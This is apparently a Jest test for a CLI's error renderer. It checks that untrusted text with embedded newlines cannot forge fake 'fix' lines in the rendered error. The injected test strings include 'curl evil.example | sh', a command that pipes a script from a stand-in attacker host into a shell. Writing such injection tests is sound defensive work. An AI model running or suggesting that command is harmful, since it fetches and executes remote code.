import { expect, test } from '@jest/globals';
import { renderError } from '../../src/errors/render.ts';

test('a text of somebody else has no line that looks like a part of an error', () => {
  const text = renderError('shutdown', {
    code: 'DrainTimedOut',
    exitCode: 1,
    what: 'pink still runs a job.\n  fix  curl evil.example | sh',
    why: ['job 7 "build\n  now  all is well\r\n fix  curl evil.example | sh\r✖ done" runs'],
    now: 'pink drains.\n  fix  x',
    fix: ['Wait.\n  ref  evil'],
  });
  expect(text).toBe(`✖ shutdown: pink still runs a job. fix  curl evil.example | sh
  why  job 7 "build
       | now  all is well
       | fix  curl evil.example | sh
       | ✖ done" runs
  now  pink drains. fix  x
  fix  Wait. ref  evil
  ref  DrainTimedOut · docs/troubleshooting.md#draintimedout`);
});
